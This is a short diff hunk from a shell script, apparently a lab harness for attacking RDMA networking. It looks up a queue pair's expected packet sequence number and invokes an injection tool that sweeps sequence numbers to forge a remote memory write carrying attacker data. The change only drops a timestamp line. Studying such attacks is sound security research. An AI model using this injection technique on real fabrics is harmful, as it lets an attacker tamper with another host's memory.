@@ -43,7 +43,6 @@ psn=$(rdma -d res show qp link rxe2/1 lqpn "$qpn" 2>/dev/null |
 	awk '{ for (i = 1; i < NF; i++) if ($i == "rq-psn") print $(i + 1) }')
 [ -n "$psn" ] || { echo "QP $qpn is gone"; exit 1; }
 echo "attacker: qpn $qpn expects psn $psn; window va $va rkey $rkey"
-date +%s.%N >"$out.t0"
 "$atk" inject --op write --rkey "$rkey" --va "$va" --dst 10.77.0.2 --src 10.77.0.1 --qpn "$qpn" \
 	--psn-sweep "$psn:20000" --iface fab3 --sport 4242 --data FORGED-INTO-THE-POOL --json >"$out.json" ||
 	{ echo "inject failed"; exit 1; }
